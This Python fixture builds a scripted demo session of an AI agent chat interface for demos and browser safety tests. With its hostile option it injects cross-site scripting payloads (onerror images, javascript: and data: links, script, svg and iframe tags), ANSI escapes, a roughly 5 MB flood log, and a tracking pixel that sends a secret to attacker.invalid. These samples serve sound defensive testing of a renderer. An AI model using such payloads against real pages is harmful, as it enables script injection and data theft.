"""A recorded session for demos and browser tests: replays actions through the real reducers into a
:class:`~ahp_lab.widgets.fake.FakeSource`.

``demo_source()`` gives a session with customizations of every kind and load state, a completed
turn, and an active turn holding tool calls in every live status plus an open question, with the
matching ``inputNeeded`` entries. ``demo_source(hostile=True)`` adds peer content that tries to run
script, smuggle links, and flood the view (for the safety tests).
"""

from __future__ import annotations

import itertools
from typing import Any

from .fake import FakeSource

__all__ = ["demo_source", "HOSTILE_MARKDOWN", "add_tool_calls"]

SESSION = "ahp-session:/demo"
CHAT = "ahp-chat:/demo-chat"

HOSTILE_MARKDOWN = (
    "Here is **bold** text and `code`.\n\n"
    '<img src=x onerror="window.__pwned=1">\n\n'
    "[click me](javascript:window.__pwned=1) and [data](data:text/html,<script>window.__pwned=1</script>) "
    "and [vb](vbscript:msgbox(1)) and [ok link](https://example.org/docs)\n\n"
    '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>\n\n'
    "<script>window.__pwned=1</script>\n\n"
    '<a href="javascript:window.__pwned=1">raw anchor</a> '
    '<iframe src="javascript:window.__pwned=1"></iframe>\n\n'
    "![tracker](https://attacker.invalid/pixel.png?secret=1)\n\n"
    "\x1b[31mred ANSI\x1b[0m \x1b]0;title\x07 bell\x07 done"
)


def _session_state() -> dict[str, Any]:
    return {
        "provider": "scripted",
        "title": "Demo session",
        "status": 1,
        "lifecycle": "creating",
        "activeClients": [],
        "chats": [],
    }


def _chat_state() -> dict[str, Any]:
    return {
        "resource": CHAT,
        "title": "Refactor the parser",
        "status": 1,
        "modifiedAt": "1970-01-01T00:00:00.000Z",
        "turns": [],
    }


def _customizations(hostile: bool) -> list[dict[str, Any]]:
    evil = '<img src=x onerror="window.__pwned=1">' if hostile else ""
    return [
        {
            "type": "plugin",
            "id": "p-review",
            "uri": "https://plugins.example/code-review",
            "name": f"code-review{evil}",
            "version": "1.4.0",
            "enabled": True,
            "load": {"kind": "loaded"},
            "children": [
                {
                    "type": "agent",
                    "id": "a-reviewer",
                    "uri": "file:///p/agents/reviewer.md",
                    "name": "reviewer",
                    "description": "Reviews diffs",
                    "model": "gpt-5",
                },
                {
                    "type": "skill",
                    "id": "s-lint",
                    "uri": "file:///p/skills/lint",
                    "name": "lint",
                    "description": "Runs the linters",
                    "enabled": False,
                },
                {"type": "skill", "id": "s-tests", "uri": "file:///p/skills/tests", "name": "write-tests"},
                {
                    "type": "prompt",
                    "id": "pr-explain",
                    "uri": "file:///p/prompts/explain.md",
                    "name": "explain",
                },
                {
                    "type": "rule",
                    "id": "r-style",
                    "uri": "file:///p/rules/style.md",
                    "name": "style guide",
                    "alwaysApply": True,
                },
                {"type": "hook", "id": "h-pre", "uri": "file:///p/hooks.json", "name": "pre-commit"},
                {
                    "type": "mcpServer",
                    "id": "m-github",
                    "uri": "file:///p/mcp.json",
                    "name": "github",
                    "enabled": True,
                    "state": {"kind": "ready"},
                },
                {
                    "type": "mcpServer",
                    "id": "m-db",
                    "uri": "file:///p/mcp.json",
                    "name": "database",
                    "enabled": True,
                    "state": {"kind": "starting"},
                },
            ],
        },
        {
            "type": "plugin",
            "id": "p-client",
            "uri": "virtual://vscode-1/snippets",
            "name": "editor snippets",
            "enabled": False,
            "clientId": "vscode-1",
            "load": {"kind": "degraded", "message": "2 snippets failed to parse"},
            "children": [
                {
                    "type": "prompt",
                    "id": "pr-snippet",
                    "uri": "virtual://vscode-1/snippets/a",
                    "name": "snippet A",
                },
                {
                    "type": "skill",
                    "id": "s-format",
                    "uri": "virtual://vscode-1/snippets/b",
                    "name": "format-on-save",
                },
            ],
        },
        {
            "type": "directory",
            "id": "d-skills",
            "uri": "file:///work/.ahp/skills",
            "name": ".ahp/skills",
            "contents": "skill",
            "writable": True,
            "enabled": True,
            "load": {"kind": "loading"},
        },
        {
            "type": "plugin",
            "id": "p-broken",
            "uri": "https://plugins.example/broken",
            "name": "broken-plugin",
            "enabled": True,
            "load": {"kind": "error", "message": "manifest.json: unexpected token at line 3"},
            "children": [],
        },
        {
            "type": "mcpServer",
            "id": "m-jira",
            "uri": "https://mcp.example/jira",
            "name": "jira",
            "enabled": True,
            "state": {
                "kind": "authRequired",
                "reason": "required",
                "resource": {
                    "resource": "https://mcp.example/jira",
                    "authorization_servers": ["https://auth.example"],
                },
                "requiredScopes": ["read:issues"],
                "description": "Sign in to Jira to let the agent read issues",
            },
        },
        {
            "type": "mcpServer",
            "id": "m-files",
            "uri": "https://mcp.example/files",
            "name": "files",
            "enabled": False,
            "state": {"kind": "stopped"},
        },
    ]


class _Recorder:
    def __init__(self, src: FakeSource) -> None:
        self.src = src
        self.cseq = itertools.count(1)
        self.t = 1_760_000_000.0

    def _tick(self) -> float:
        self.t += 0.137
        return self.t

    def host(self, channel: str, action: dict) -> None:
        self.src._clock = self._tick
        self.src.apply(channel, action, origin={"kind": "host"})

    def agent(self, channel: str, action: dict) -> None:
        self.src._clock = self._tick
        self.src.apply(channel, action, origin={"kind": "agent", "name": "scripted"})

    def client(self, channel: str, action: dict, client_id: str = "vscode-1") -> None:
        self.src._clock = self._tick
        self.src.apply(
            channel, action, origin={"kind": "client", "clientId": client_id, "clientSeq": next(self.cseq)}
        )

    def reject(self, channel: str, action: dict, reason: str, client_id: str = "vscode-1") -> None:
        self.src._clock = self._tick
        self.src.record(
            channel,
            action,
            None,
            origin={"kind": "client", "clientId": client_id, "clientSeq": next(self.cseq)},
            rejection_reason=reason,
        )


def _tc(turn: str, tcid: str, typ: str, **fields: Any) -> dict[str, Any]:
    return {"type": f"chat/{typ}", "turnId": turn, "toolCallId": tcid, **fields}


def demo_source(*, hostile: bool = False) -> FakeSource:
    """A :class:`FakeSource` holding the demo session (see the module docstring)."""
    src = FakeSource(session=SESSION, chat=CHAT)
    if src.reducers is None:  # pragma: no cover - reducers are part of the package
        raise RuntimeError("demo_source needs ahp_lab.reducers")
    src.set_state(SESSION, _session_state())
    src.set_state(CHAT, _chat_state())
    r = _Recorder(src)
    S, C = SESSION, CHAT
    r.host(
        S,
        {
            "type": "session/chatAdded",
            "summary": {
                "resource": C,
                "title": "Refactor the parser",
                "status": 1,
                "modifiedAt": "1970-01-01T00:00:00.000Z",
            },
        },
    )
    r.host(S, {"type": "session/ready"})
    r.client(
        S,
        {
            "type": "session/activeClientSet",
            "activeClient": {
                "clientId": "vscode-1",
                "displayName": "VS Code",
                "tools": [{"name": "runUnitTests", "title": "Run unit tests"}],
            },
        },
    )
    r.host(S, {"type": "session/customizationsChanged", "customizations": _customizations(hostile)})

    # turn 1: complete, with one finished host tool call
    r.client(
        C,
        {
            "type": "chat/turnStarted",
            "turnId": "t1",
            "startedAt": "2025-10-09T10:00:00.000Z",
            "message": {"text": "What does the tokenizer do?", "origin": {"kind": "user"}},
        },
    )
    r.agent(
        C,
        {
            "type": "chat/responsePart",
            "turnId": "t1",
            "part": {"kind": "reasoning", "id": "r1", "content": ""},
        },
    )
    for chunk in ["The user wants ", "an overview of ", "the tokenizer module."]:
        r.agent(C, {"type": "chat/reasoning", "turnId": "t1", "partId": "r1", "content": chunk})
    r.agent(C, _tc("t1", "read-1", "toolCallStart", toolName="readFile", displayName="Read file"))
    r.agent(C, _tc("t1", "read-1", "toolCallDelta", content='{"path": "src/tok'))
    r.agent(C, _tc("t1", "read-1", "toolCallDelta", content='enizer.py"}'))
    r.agent(
        C,
        _tc(
            "t1",
            "read-1",
            "toolCallReady",
            invocationMessage="Read src/tokenizer.py",
            toolInput='{"path": "src/tokenizer.py"}',
            confirmed="not-needed",
        ),
    )
    r.agent(
        C,
        _tc(
            "t1",
            "read-1",
            "toolCallComplete",
            result={
                "success": True,
                "pastTenseMessage": "Read src/tokenizer.py (212 lines)",
                "content": [{"type": "text", "text": "def tokenize(src):\n    ..."}],
            },
        ),
    )
    r.agent(
        C,
        {
            "type": "chat/responsePart",
            "turnId": "t1",
            "part": {"kind": "markdown", "id": "m1", "content": ""},
        },
    )
    for chunk in [
        "The tokenizer **splits** the source ",
        "into tokens:\n\n- identifiers\n- numbers\n",
        "- punctuation\n\nIt is a hand-written scanner.",
    ]:
        r.agent(C, {"type": "chat/delta", "turnId": "t1", "partId": "m1", "content": chunk})
    r.agent(C, {"type": "chat/turnComplete", "turnId": "t1", "duration": 5300})

    # turn 2: active, tool calls in every live state
    r.client(
        C,
        {
            "type": "chat/turnStarted",
            "turnId": "t2",
            "startedAt": "2025-10-09T10:01:00.000Z",
            "message": {"text": "Refactor it and run the tests.", "origin": {"kind": "user"}},
        },
    )
    r.agent(
        C,
        {
            "type": "chat/responsePart",
            "turnId": "t2",
            "part": {
                "kind": "markdown",
                "id": "m2",
                "content": "I'll start by editing the scanner, then run the tests.",
            },
        },
    )
    # a call the user must confirm, with options
    r.agent(
        C,
        _tc(
            "t2",
            "edit-1",
            "toolCallStart",
            toolName="editFile",
            displayName="Edit file",
            intention="Split scan() into smaller functions",
        ),
    )
    r.agent(
        C,
        _tc(
            "t2",
            "edit-1",
            "toolCallReady",
            invocationMessage="Edit src/tokenizer.py",
            toolInput='{"path": "src/tokenizer.py", "patch": "..."}',
            editable=True,
            confirmationTitle={"markdown": "Allow **Edit file** on `src/tokenizer.py`?"},
            options=[
                {"id": "once", "label": "Allow once", "kind": "approve", "group": 1},
                {"id": "always", "label": "Always allow", "kind": "approve", "group": 1},
                {"id": "never", "label": "Never", "kind": "deny", "group": 2},
            ],
            riskAssessment={
                "kind": "judge",
                "status": "complete",
                "reason": "Edits one file in the workspace",
                "safety": 0.82,
            },
        ),
    )
    # a client tool running on VS Code
    r.agent(
        C,
        _tc(
            "t2",
            "tests-1",
            "toolCallStart",
            toolName="runUnitTests",
            displayName="Run Unit Tests",
            contributor={"kind": "client", "clientId": "vscode-1"},
        ),
    )
    r.agent(
        C,
        _tc(
            "t2",
            "tests-1",
            "toolCallReady",
            invocationMessage="Run tests matching 'tokenizer'",
            toolInput='{"pattern": "tokenizer"}',
            confirmed="not-needed",
        ),
    )
    r.client(
        C,
        _tc(
            "t2",
            "tests-1",
            "toolCallContentChanged",
            content=[{"type": "text", "text": "collected 48 items\n...........\x1b[32m24 passed\x1b[0m"}],
        ),
    )
    # an MCP tool waiting for authentication
    r.agent(
        C,
        _tc(
            "t2",
            "jira-1",
            "toolCallStart",
            toolName="jira_search",
            displayName="Search Jira",
            contributor={"kind": "mcp", "customizationId": "m-jira"},
        ),
    )
    r.agent(
        C,
        _tc(
            "t2",
            "jira-1",
            "toolCallReady",
            invocationMessage="Search issues about the tokenizer",
            toolInput='{"q": "tokenizer"}',
            confirmed="setting",
        ),
    )
    auth = {
        "reason": "insufficientScope",
        "resource": {
            "resource": "https://mcp.example/jira",
            "authorization_servers": ["https://auth.example"],
        },
        "requiredScopes": ["read:issues"],
        "description": "Jira needs read:issues",
    }
    r.agent(C, _tc("t2", "jira-1", "toolCallAuthRequired", auth=auth))
    # a call whose result must be confirmed
    r.agent(C, _tc("t2", "shell-1", "toolCallStart", toolName="bash", displayName="Run command"))
    r.agent(
        C,
        _tc(
            "t2",
            "shell-1",
            "toolCallReady",
            invocationMessage="git diff --stat",
            toolInput="git diff --stat",
            confirmed="not-needed",
        ),
    )
    r.agent(
        C,
        _tc(
            "t2",
            "shell-1",
            "toolCallComplete",
            requiresResultConfirmation=True,
            result={
                "success": True,
                "pastTenseMessage": "Ran git diff --stat",
                "content": [{"type": "text", "text": " src/tokenizer.py | 40 +++++-----"}],
            },
        ),
    )
    # a denied call (cancelled)
    r.agent(C, _tc("t2", "rm-1", "toolCallStart", toolName="bash", displayName="Delete build dir"))
    r.agent(
        C, _tc("t2", "rm-1", "toolCallReady", invocationMessage="rm -rf build/", toolInput="rm -rf build/")
    )
    r.client(
        C, _tc("t2", "rm-1", "toolCallConfirmed", approved=False, reason="denied", reasonMessage="Not now")
    )
    r.reject(
        C,
        _tc("t2", "rm-1", "toolCallConfirmed", approved=True, confirmed="user-action"),
        "tool call rm-1 is not pending confirmation",
    )
    # a call still streaming its input
    r.agent(C, _tc("t2", "write-1", "toolCallStart", toolName="writeFile", displayName="Write file"))
    for chunk in ['{"path": "src/scan', '_helpers.py", "content": "def scan_ident', "ifier(src, i):\\n"]:
        r.agent(C, _tc("t2", "write-1", "toolCallDelta", content=chunk))
    # an open question
    request = {
        "id": "q-1",
        "message": "A few choices before I continue:",
        "questions": [
            {
                "kind": "single-select",
                "id": "style",
                "title": "Naming style",
                "message": "How should helpers be named?",
                "required": True,
                "options": [
                    {"id": "snake", "label": "snake_case", "recommended": True},
                    {"id": "camel", "label": "camelCase"},
                ],
                "allowFreeformInput": True,
            },
            {
                "kind": "multi-select",
                "id": "targets",
                "title": "Also refactor",
                "message": "Pick up to two",
                "min": 0,
                "max": 2,
                "options": [
                    {"id": "parser", "label": "parser"},
                    {"id": "lexer", "label": "lexer"},
                    {"id": "ast", "label": "ast"},
                ],
            },
            {
                "kind": "text",
                "id": "email",
                "title": "Notify",
                "message": "Who should review?",
                "format": "email",
                "max": 80,
            },
            {
                "kind": "integer",
                "id": "depth",
                "title": "Max depth",
                "message": "Nesting limit",
                "min": 1,
                "max": 10,
                "defaultValue": 3,
            },
            {
                "kind": "number",
                "id": "ratio",
                "title": "Coverage goal",
                "message": "Fraction between 0 and 1",
                "min": 0,
                "max": 1,
            },
            {
                "kind": "boolean",
                "id": "commit",
                "title": "Commit",
                "message": "Commit when done?",
                "defaultValue": False,
            },
        ],
    }
    r.agent(C, {"type": "chat/inputRequested", "request": request})

    # the host mirrors the blocks into the session's inputNeeded
    def part(tcid: str) -> dict[str, Any]:
        for p in src.state(C)["activeTurn"]["responseParts"]:
            if p.get("kind") == "toolCall" and p["toolCall"]["toolCallId"] == tcid:
                from ahp_lab.protocol.jsonvalue import to_json

                return to_json(p["toolCall"])
        raise KeyError(tcid)

    r.host(
        S,
        {
            "type": "session/inputNeededSet",
            "request": {
                "kind": "toolConfirmation",
                "id": f"{C}#edit-1",
                "chat": C,
                "turnId": "t2",
                "toolCall": part("edit-1"),
            },
        },
    )
    r.host(
        S,
        {
            "type": "session/inputNeededSet",
            "request": {
                "kind": "toolClientExecution",
                "id": f"{C}#tests-1",
                "chat": C,
                "turnId": "t2",
                "clientId": "vscode-1",
                "toolCall": part("tests-1"),
            },
        },
    )
    r.host(
        S,
        {
            "type": "session/inputNeededSet",
            "request": {
                "kind": "toolAuthentication",
                "id": f"{C}#jira-1",
                "chat": C,
                "turnId": "t2",
                "toolCall": part("jira-1"),
            },
        },
    )
    r.host(
        S,
        {
            "type": "session/inputNeededSet",
            "request": {
                "kind": "toolConfirmation",
                "id": f"{C}#shell-1",
                "chat": C,
                "turnId": "t2",
                "toolCall": part("shell-1"),
            },
        },
    )
    r.host(
        S,
        {
            "type": "session/inputNeededSet",
            "request": {"kind": "chatInput", "id": f"{C}#q-1", "chat": C, "request": request},
        },
    )

    if hostile:
        r.agent(
            C,
            {
                "type": "chat/responsePart",
                "turnId": "t2",
                "part": {"kind": "markdown", "id": "evil", "content": HOSTILE_MARKDOWN},
            },
        )
        r.agent(
            C,
            {
                "type": "chat/responsePart",
                "turnId": "t2",
                "part": {
                    "kind": "systemNotification",
                    "content": {"markdown": '<img src=x onerror="window.__pwned=1"> **system** note'},
                },
            },
        )
        r.agent(
            C,
            _tc(
                "t2",
                "big-1",
                "toolCallStart",
                toolName="cat",
                displayName='<img src=x onerror="window.__pwned=1">cat',
            ),
        )
        r.agent(
            C,
            _tc(
                "t2",
                "big-1",
                "toolCallReady",
                invocationMessage={"markdown": "[x](javascript:window.__pwned=1)"},
                toolInput="huge.log",
                confirmed="not-needed",
            ),
        )
        big = ("\x1b[31mERROR\x1b[0m <script>window.__pwned=1</script> " * 40 + "\n") * 2300  # ~5 MB
        r.agent(C, _tc("t2", "big-1", "toolCallContentChanged", content=[{"type": "text", "text": big}]))
        hostile_q = {
            "id": "q-evil",
            "message": '<img src=x onerror="window.__pwned=1">Pick **one**',
            "url": "javascript:window.__pwned=1",
            "questions": [
                {
                    "kind": "text",
                    "id": "x",
                    "title": '<b onmouseover="window.__pwned=1">title</b>',
                    "message": "[y](javascript:window.__pwned=1)",
                }
            ],
        }
        r.agent(C, {"type": "chat/inputRequested", "request": hostile_q})
        r.host(
            S,
            {
                "type": "session/inputNeededSet",
                "request": {"kind": "chatInput", "id": f"{C}#q-evil", "chat": C, "request": hostile_q},
            },
        )
    return src


def add_tool_calls(src: FakeSource, n: int, *, turn: str = "t2") -> None:
    """Append ``n`` quick host tool calls (start → ready → complete) to the active turn."""
    for i in range(n):
        tcid = f"bulk-{i}"
        o = {"kind": "agent", "name": "scripted"}
        src.apply(
            src.chat, _tc(turn, tcid, "toolCallStart", toolName="grep", displayName=f"Search {i}"), origin=o
        )
        src.apply(
            src.chat,
            _tc(
                turn,
                tcid,
                "toolCallReady",
                invocationMessage=f"grep pattern {i}",
                toolInput=f"p{i}",
                confirmed="not-needed",
            ),
            origin=o,
        )
        src.apply(
            src.chat,
            _tc(
                turn,
                tcid,
                "toolCallComplete",
                result={"success": i % 7 != 0, "pastTenseMessage": f"Searched {i}"},
            ),
            origin=o,
        )
